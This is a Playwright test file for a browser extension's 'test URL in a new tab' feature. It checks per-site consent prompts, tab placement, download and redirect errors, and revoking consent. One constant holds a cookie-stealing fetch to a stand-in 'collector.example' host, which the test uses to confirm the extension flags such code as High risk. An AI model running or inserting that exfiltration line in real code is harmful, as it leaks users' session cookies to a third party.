import { type BrowserContext, expect, type Page } from "@playwright/test";
import type { TestRunRequest, TestRunSnapshot } from "@scriptorium/shared-protocol/host-remote/test-run-link";
import type { ExtensionBrowser } from "../support/extension.ts";
import { type HubStandIn, page as html } from "../support/hub-stand-in.ts";
import { test } from "./extension-fixture.ts";

const PLAIN = "document.body.style.color = 'red'; return document.title;";
const HIGH = 'fetch("https://collector.example/?" + document.cookie);';

async function openHub(hub: HubStandIn, context: BrowserContext): Promise<Page> {
	const page = await context.newPage();
	await page.goto(hub.origin);
	await expect(page.locator("#state")).toContainText("open-test-tab");
	await page.evaluate("window.link.execution().then((link) => { window.runs = link; })");
	return page;
}
const snapshot = (hub: Page): Promise<TestRunSnapshot> => hub.evaluate("window.runs.execution.getSnapshot()");

/** Starts a test run from the page of the hub, which the person looks at. */
async function start(hub: Page, request: Pick<TestRunRequest, "code" | "openUrl">): Promise<void> {
	await hub.bringToFront();
	const json = JSON.stringify({ name: "Paint", sites: [], ...request });
	expect(await hub.evaluate(`window.runs.start(${json})`)).toEqual({ ok: true });
}
const isAsking = (page: Page): boolean => page.url().includes("test-run.html");

/** Starts a test run for which the extension asks; returns its page. */
async function ask(hub: Page, request: Pick<TestRunRequest, "code" | "openUrl">): Promise<Page> {
	await start(hub, request);
	await expect.poll(() => hub.context().pages().some(isAsking)).toBe(true);
	const asking = hub.context().pages().find(isAsking);
	if (asking === undefined) throw new Error("the extension does not ask");
	await expect(asking.getByRole("region", { name: "Security rating" })).toContainText("Risk");
	return asking;
}
async function press(asking: Page, name: "Run" | "Cancel"): Promise<void> {
	const closed = asking.waitForEvent("close");
	const button = asking.getByRole("button", { name, exact: true });
	// The page may be closed before the click has an answer.
	await button.click().catch((thrown: unknown) => {
		if (!asking.isClosed()) throw thrown;
	});
	await closed;
}
/** Waits for the end of a run for which nobody is asked. */
async function expectResult(hub: Page, result: Record<string, unknown>): Promise<void> {
	await expect.poll(async () => (await snapshot(hub)).state, { timeout: 20_000 }).toBe("ended");
	expect((await snapshot(hub)).result).toMatchObject(result);
	expect(hub.context().pages().filter(isAsking)).toEqual([]);
}

/** Addresses of all tabs, from left to right. */
async function tabs(browser: ExtensionBrowser): Promise<string[]> {
	const worker = await browser.worker();
	return worker.evaluate<string[]>("chrome.tabs.query({}).then((tabs) => tabs.map(({ url }) => url))");
}

test.describe("extension: test URL in a new tab", () => {
	test("asks once per site, opens beside the hub, leaves the tab open, and asks again for more, for High, elsewhere and when revoked", {
		tag: "@soak",
	}, async ({ fixture: { hub }, browserWithExtension: browser }) => {
		await browser.allowUserScripts();
		hub.serve("/shop", html("Shop", "<h1>Shop</h1>"));
		hub.serve("/cart", html("Cart", "<h1>Cart</h1>"));
		hub.serve("/leads-away", html("Away", `<script>location.replace("${hub.origin}/plain")</script>`));
		hub.serve("/file", "bytes", "application/octet-stream", { "content-disposition": "attachment; filename=a.bin" });
		const shop = `${hub.strangerOrigin}/shop`;
		const page = await openHub(hub, browser.context);
		const beside = await browser.context.newPage();
		await beside.goto(`${hub.origin}/plain`);

		const asking = await ask(page, { code: PLAIN, openUrl: shop });
		await expect(asking.getByRole("heading", { level: 1 })).toHaveText(`Run “Paint” on ${hub.strangerOrigin}?`);
		await expect(asking.getByRole("region", { name: "Address that is opened" })).toHaveText(new RegExp(shop));
		await expect(asking.getByRole("radio")).toHaveCount(0);
		const opened = browser.context.waitForEvent("page");
		await press(asking, "Run");
		const tab = await opened;
		await expectResult(page, { success: true });
		expect((await snapshot(page)).target).toEqual({ title: "Shop", site: hub.strangerOrigin });
		expect(await tabs(browser)).toEqual(["about:blank", `${hub.origin}/`, shop, `${hub.origin}/plain`]);
		expect(await tab.evaluate("[window.opener, document.visibilityState]")).toEqual([null, "visible"]);

		// Changed code runs in the same tab, which loads its address anew: another page, only its fragment, and the same again.
		const cart = `${hub.strangerOrigin}/cart`;
		for (const openUrl of [cart, `${cart}#a`, `${cart}#a`]) {
			await tab.evaluate("window.isOld = true");
			await start(page, { code: `document.body.style.margin = "0"; console.log(location.hash); ${PLAIN}`, openUrl });
			await expectResult(page, { success: true });
			expect(await tab.evaluate("[location.href, window.isOld ?? false]")).toEqual([openUrl, false]);
		}
		expect(await tabs(browser)).toHaveLength(4);

		// A download, and an address that leads to the hub, end with a code; nothing runs there.
		await start(page, { code: PLAIN, openUrl: `${hub.strangerOrigin}/file` });
		await expectResult(page, { success: false, errors: [{ code: "PAGE_NOT_LOADED" }] });
		await start(page, { code: PLAIN, openUrl: `${hub.strangerOrigin}/leads-away` });
		await expect.poll(async () => (await snapshot(page)).result?.errors[0]?.code).toBe("PAGE_NOT_ALLOWED");

		// Each of these asks.
		for (const [code, openUrl, why] of [
			['localStorage.setItem("a", "b");', shop, "keeps data: localStorage"],
			[HIGH, shop, "The code is rated High"],
			[PLAIN, shop.replace("localhost", "127.0.0.1"), "Nothing is opened before you press Run"],
		] as const) {
			const again = await ask(page, { code, openUrl });
			await expect(again.getByRole("main")).toContainText(why);
			await press(again, "Cancel");
			await expectResult(page, { errors: [{ code: "CANCELLED" }] });
		}
		await beside.bringToFront();
		expect(
			await page.evaluate(`window.runs.start(${JSON.stringify({ name: "x", code: PLAIN, sites: [], openUrl: shop })})`),
		).toEqual({ ok: true });
		await expect.poll(() => browser.context.pages().some(isAsking)).toBe(true);
		const background = browser.context.pages().find(isAsking);
		await expect(background?.getByRole("main") ?? page.locator("none")).toContainText("was not in front");
		await page.evaluate("window.runs.stop()");

		const options = await browser.context.newPage();
		await options.goto(browser.pageUrl("options.html#/settings"));
		const consents = options.getByRole("region", { name: "Test runs of the editor" });
		await expect(consents).toContainText(hub.strangerOrigin);
		await consents.getByRole("button", { name: "Ask me again" }).click();
		await expect(consents).toContainText("No page of the hub may run tests without asking you.");
		await press(await ask(page, { code: PLAIN, openUrl: shop }), "Cancel");
	});
});
